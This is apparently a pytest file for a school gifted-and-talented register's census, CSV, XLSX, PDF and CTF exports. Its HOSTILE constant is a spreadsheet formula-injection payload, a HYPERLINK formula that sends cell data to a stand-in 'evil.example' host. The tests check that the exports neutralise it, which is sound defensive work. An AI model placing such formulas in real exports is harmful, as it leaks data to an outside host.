"""The register's exports: the census return, the register (CSV, XLSX, PDF), a leaver's CTF."""

import csv
import io
import zipfile
from datetime import date, timedelta

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone
from openpyxl import load_workbook

from risingtide.register import exports
from risingtide.register.ctf.reading import read_ctf
from risingtide.register.models import (
    Attainment,
    CharacteristicChange,
    Evidence,
    FsmPeriod,
    Pupil,
    RegisterEntry,
    academic_year,
)
from risingtide.register.rows import Assessment, RegisterFlags
from risingtide.register.rows import FsmPeriod as FsmRow
from risingtide.register.upn import make_upn

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
Status = RegisterEntry.Status


def _pupil(school, serial: int, surname: str = "", **values) -> Pupil:
    return Pupil.objects.create(
        school=school,
        upn=make_upn(801, 4001, 16, serial),
        legal_surname=surname or f"Surname{serial:03d}",
        legal_forename=values.pop("forename", f"Forename{serial}"),
        date_of_birth=date(2013, 1 + serial % 12, 1 + serial % 28),
        gender="M",
        nc_year="8",
        **values,
    )


def _entry(pupil: Pupil, status: str, year: int | None = None, **values) -> RegisterEntry:
    """A new current entry (the one before it becomes history), as services do."""
    year = academic_year() if year is None else year
    RegisterEntry.objects.filter(pupil=pupil, academic_year=year, current=True).update(
        current=False
    )
    return RegisterEntry.objects.create(
        pupil=pupil,
        school_id=pupil.school_id,
        academic_year=year,
        status=status,
        recorded_by_name="Lead Own",
        **values,
    )


def _evidence(pupil: Pupil, kind: str, year: int | None = None) -> Evidence:
    year = academic_year() if year is None else year
    return Evidence.objects.create(pupil=pupil, academic_year=year, kind=kind, summary="Seen")


@pytest.fixture
def register(world):
    """At "own": pupil@own identified (maths, music, top 5%), pupil@own2 nominated, pupil2@own
    removed, a pupil with no entry this year (identified last year), a pupil off roll who was
    identified. At "other": pupil@other identified."""
    own = world.schools["own"]
    records = world.records
    _entry(
        records["own"],
        Status.IDENTIFIED,
        gifted=True,
        talented=True,
        top_5=True,
        domains=["maths", "music"],
        reason="Exceptional",
        next_review=date(2031, 7, 1),
    )
    _entry(records["own2"], Status.NOMINATED, gifted=True, domains=["english"])
    _entry(records["2@own"], Status.REMOVED, reason="Moved sets")
    records["none"] = _pupil(own, 1, "Nobody")
    _entry(records["none"], Status.IDENTIFIED, year=academic_year() - 1, gifted=True)
    records["left"] = _pupil(own, 2, "Leaver", on_roll=False, left_on=date(2025, 1, 1))
    _entry(records["left"], Status.IDENTIFIED, gifted=True, domains=["science"])
    _entry(records["other"], Status.IDENTIFIED, talented=True, domains=["art"])
    return records


def _by_upn(rows) -> dict[str, list]:
    return {row[0]: row for row in rows}


# --- census --------------------------------------------------------------------------------


def test_census_rows_flag_only_identified_pupils_on_roll(register, world):
    rows = _by_upn(exports.census_rows(world.schools["own"]))
    flags = {upn: row[5:] for upn, row in rows.items()}
    own = register["own"]
    assert rows[own.upn][:5] == [own.upn, "Own", "Ada", own.date_of_birth, "7"]
    assert flags[own.upn] == ["Y", "Y", "Y", "Y", "Mathematics; Music"]
    assert flags[register["own2"].upn] == ["N", "N", "N", "N", ""]  # nominated
    assert flags[register["2@own"].upn] == ["N", "N", "N", "N", ""]  # removed
    assert flags[register["none"].upn] == ["N", "N", "N", "N", ""]  # only last year
    assert register["left"].upn not in rows
    assert register["other"].upn not in rows
    assert len(rows) == 4 and len(exports.CENSUS_HEADER) == len(rows[own.upn])
    # Another year's return reads that year's entries.
    last_year = _by_upn(exports.census_rows(world.schools["own"], academic_year() - 1))
    assert last_year[register["none"].upn][5] == "Y" and last_year[own.upn][5] == "N"


def test_census_rows_are_sorted_by_legal_name(register, world):
    surnames = [row[1] for row in exports.census_rows(world.schools["own"])]
    assert surnames == sorted(surnames)


# --- the register --------------------------------------------------------------------------


def test_register_rows_with_evidence_counts_and_subgroups(register, world):
    own = register["own"]
    # pupil@own already has the teacher's nomination (qualitative) from the tiny world.
    for kind in ("test_score", "attainment", "progress", "peer_nomination"):
        _evidence(own, kind)
    _evidence(own, "test_score", year=academic_year() - 1)  # another year: not counted
    _evidence(register["other"], "test_score")
    today = timezone.localdate()
    FsmPeriod.objects.create(pupil=own, start=today - timedelta(days=30))
    FsmPeriod.objects.create(
        pupil=register["own2"], start=date(today.year - 3, 1, 1), end=date(today.year - 2, 1, 1)
    )
    Pupil.objects.filter(pk=own.pk).update(
        first_language="POL", eal=True, sen="K", preferred_forename="Addie"
    )
    header, rows = exports.register_rows(world.schools["own"])
    assert header == exports.REGISTER_HEADER
    table = _by_upn(rows)
    assert set(table) == {own.upn, register["own2"].upn, register["2@own"].upn}
    row = dict(zip(header, table[own.upn], strict=True))
    assert row["Forename"] == "Addie" and row["Surname"] == "Own"
    assert (row["Status"], row["Gifted"], row["Talented"], row["Top 5%"]) == (
        "Identified",
        "Y",
        "Y",
        "Y",
    )
    assert row["Domains"] == "Mathematics; Music" and row["Reason"] == "Exceptional"
    assert (row["Decided by"], row["Decided on"], row["Next review"]) == (
        "Lead Own",
        today,
        date(2031, 7, 1),
    )
    assert (row["Quantitative evidence"], row["Qualitative evidence"]) == (2, 2)
    assert row["Progress evidence"] == 1
    assert (row["FSM now"], row["Ever-6"], row["EAL"], row["SEN"]) == ("Y", "Y", "Y", "K")
    nominated = dict(zip(header, table[register["own2"].upn], strict=True))
    assert (nominated["Status"], nominated["FSM now"], nominated["Ever-6"]) == (
        "Nominated",
        "N",
        "Y",
    )
    assert nominated["Quantitative evidence"] == 0 and nominated["EAL"] == "N"


def test_register_rows_of_one_status(register, world):
    _, rows = exports.register_rows(world.schools["own"], status=Status.REMOVED)
    assert [r[0] for r in rows] == [register["2@own"].upn]
    _, rows = exports.register_rows(world.schools["other"], status=Status.IDENTIFIED)
    assert [r[0] for r in rows] == [register["other"].upn]
    with pytest.raises(ValidationError):
        exports.register_rows(world.schools["own"], status="everyone")


def test_another_schools_pupils_never_appear(register, world):
    mine = set(Pupil.objects.filter(school=world.schools["own"]).values_list("upn", flat=True))
    theirs = set(Pupil.objects.exclude(school=world.schools["own"]).values_list("upn", flat=True))
    census = {r[0] for r in exports.census_rows(world.schools["own"])}
    listed = {r[0] for r in exports.register_rows(world.schools["own"])[1]}
    assert census <= mine and listed <= mine and not (census | listed) & theirs
    other = {r[0] for r in exports.census_rows(world.schools["other"])}
    assert other == {register["other"].upn}


def _many(school, count: int, start: int) -> None:
    pupils = Pupil.objects.bulk_create(
        Pupil(
            school=school,
            upn=make_upn(801, 4001, 17, n),
            legal_surname=f"Many{n:03d}",
            legal_forename="Pupil",
            date_of_birth=date(2013, 9, 1),
            gender="F",
            nc_year="8",
        )
        for n in range(start, start + count)
    )
    pupils = Pupil.objects.filter(upn__in=[p.upn for p in pupils], school=school)
    year = academic_year()
    RegisterEntry.objects.bulk_create(
        RegisterEntry(
            pupil=p,
            school=school,
            academic_year=year,
            status=Status.IDENTIFIED,
            gifted=True,
            domains=["maths"],
            recorded_by_name="Lead",
        )
        for p in pupils
    )
    Evidence.objects.bulk_create(
        Evidence(pupil=p, academic_year=year, kind=kind, summary="x")
        for p in pupils
        for kind in ("test_score", "progress", "teacher_nomination")
    )
    FsmPeriod.objects.bulk_create(FsmPeriod(pupil=p, start=date(2020, 1, 1)) for p in pupils)


@pytest.mark.parametrize("count", [5, 60])
def test_census_and_register_take_one_query_whatever_the_size(
    register, world, count, django_assert_num_queries
):
    school = world.schools["own"]
    _many(school, count, 100)
    with django_assert_num_queries(1):
        census = list(exports.census_rows(school))
    with django_assert_num_queries(1):
        listed = list(exports.register_rows(school)[1])
    assert len(census) == 4 + count and len(listed) == 3 + count
    assert all(r[14:17] == [1, 1, 1] for r in listed if r[1].startswith("Many"))


# --- the files -----------------------------------------------------------------------------


def test_csv_keeps_a_hostile_name_inert(register, world):
    Pupil.objects.filter(pk=register["own"].pk).update(legal_surname=HOSTILE)
    response = exports.csv_export(
        exports.CENSUS_HEADER, exports.census_rows(world.schools["own"]), "census.csv"
    )
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="census.csv"'
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0] == exports.CENSUS_HEADER
    row = next(r for r in table if r[0] == register["own"].upn)
    assert row[1] == "'" + HOSTILE and row[3] == register["own"].date_of_birth.isoformat()


def test_xlsx_keeps_a_hostile_name_a_string(register, world):
    Pupil.objects.filter(pk=register["own"].pk).update(
        legal_surname=HOSTILE, legal_forename="@SUM(1+1)", preferred_forename="-2+3"
    )
    header, rows = exports.register_rows(world.schools["own"])
    response = exports.xlsx_export(header, rows, "register.xlsx", "G&T register 2025/26")
    assert response["Content-Type"] == exports.XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="register.xlsx"'
    assert response["Cache-Control"] == "private, no-store"
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.worksheets[0]
    assert sheet.title == "G&T register 2025 26"
    assert [c.value for c in sheet[1]] == header
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == register["own"].upn)
    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (HOSTILE, "s", True)
    assert (row[2].value, row[2].data_type) == ("-2+3", "s")
    assert row[15].value == 1 and row[15].data_type == "n"  # numbers stay numbers
    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


def test_pdf_of_fifty_pupils(register, world):
    school = world.schools["own"]
    _many(school, 47, 200)
    Pupil.objects.filter(pk=register["own"].pk).update(legal_surname="<b>Bold</b> & Co")
    year = academic_year()
    html = exports.register_html(school, year, exports.register_rows(school, year))
    assert "&lt;b&gt;Bold&lt;/b&gt; &amp; Co" in html and "<b>Bold" not in html
    assert "Confidential: pupil-level data" in html and "Own School" in html
    pdf = exports.register_pdf(school, year, exports.register_rows(school, year))
    assert pdf.startswith(b"%PDF") and len(pdf) > 5000


def test_export_filename(world):
    name = exports.export_filename(world.schools["own"], "G&T register", 2025, "xlsx")
    assert name == "g-t-register-900001-2025-26.xlsx"


# --- a leaver's CTF ------------------------------------------------------------------------


def test_leaver_ctf_round_trip(register, world):
    pupil = register["own"]
    Pupil.objects.filter(pk=pupil.pk).update(
        legal_surname="O'Brien & <Sons>",
        legal_forename="Zoë-Łukasz",
        preferred_forename="Zo & Ł",
        nc_year="9",
        ethnicity="MWBC",
        first_language="POL",
        sen="K",
        looked_after=True,
    )
    pupil.refresh_from_db()
    FsmPeriod.objects.create(pupil=pupil, start=date(2019, 9, 1), end=date(2021, 7, 20))
    FsmPeriod.objects.create(pupil=pupil, start=date(2024, 1, 8))
    Attainment.objects.create(
        pupil=pupil,
        stage="KS2",
        subject="MAT",
        method="TT",
        component="SCALED",
        result="118",
        score=118,
        year=2024,
    )
    Attainment.objects.create(
        pupil=pupil, stage="KS1", subject="REA", method="TA", result="GDS", year=2020
    )
    CharacteristicChange.objects.create(
        pupil=pupil, kind="sen", old_value="", new_value="K", changed_on=date(2024, 3, 4)
    )
    filename, data = exports.leaver_ctf(pupil, dest_la="801", dest_estab="2000")
    assert filename == "1014001_CTF_8012000_001.xml"
    assert b"O'Brien &amp; &lt;Sons&gt;" in data
    assert b"<StartDate>2024-03-04</StartDate>" in data
    result = read_ctf(data)
    assert result.errors == [] and len(result.pupils) == 1
    assert (result.source_la, result.source_estab, result.source_urn, result.source_name) == (
        "101",
        "4001",
        "900001",
        "Own School",
    )
    assert (result.dest_la, result.dest_estab) == ("801", "2000")
    back = result.pupils[0]
    assert (back.upn, back.legal_surname, back.legal_forename) == (
        pupil.upn,
        "O'Brien & <Sons>",
        "Zoë-Łukasz",
    )
    assert (back.preferred_surname, back.preferred_forename) == ("O'Brien & <Sons>", "Zo & Ł")
    assert (back.date_of_birth, back.gender, back.nc_year) == (pupil.date_of_birth, "F", "9")
    assert (back.ethnicity, back.first_language, back.sen, back.looked_after) == (
        "MWBC",
        "POL",
        "K",
        True,
    )
    assert back.fsm == [
        FsmRow(date(2019, 9, 1), date(2021, 7, 20)),
        FsmRow(date(2024, 1, 8), None),
    ]
    assert sorted(back.assessments, key=lambda a: a.stage) == [
        Assessment("KS1", "REA", "TA", "", "GDS", 2020),
        Assessment("KS2", "MAT", "TT", "SCALED", "118", 2024),
    ]
    assert back.register == RegisterFlags(
        gifted_talented=True, gifted=True, talented=True, top_5=True, domains=("maths", "music")
    )


@pytest.mark.parametrize(
    ("key", "flags"),
    [
        ("own2", RegisterFlags(gifted_talented=False)),  # nominated: not on the register
        ("2@own", RegisterFlags(gifted_talented=False)),  # removed
        ("none", None),  # no entry this year: no GiftedTalented at all
    ],
)
def test_leaver_ctf_register_flags(register, key, flags):
    filename, data = exports.leaver_ctf(register[key])
    assert filename == "1014001_CTF_MMMMMMM_001.xml"  # destination unknown
    assert (b"<GiftedTalented>" in data) == (flags is not None)
    assert b"<SENhistory>" not in data
    result = read_ctf(data)
    assert result.errors == [] and result.pupils[0].register == flags
    assert (result.dest_la, result.dest_estab) == ("MMM", "MMMM")


def test_leaver_ctf_refuses_a_destination_that_is_no_code(register):
    with pytest.raises(ValidationError):
        exports.leaver_ctf(register["own"], dest_la="Leeds", dest_estab="2000")
    filename, _ = exports.leaver_ctf(register["own"], dest_la=" 80 ", dest_estab="12")
    assert filename == "1014001_CTF_0800012_001.xml"
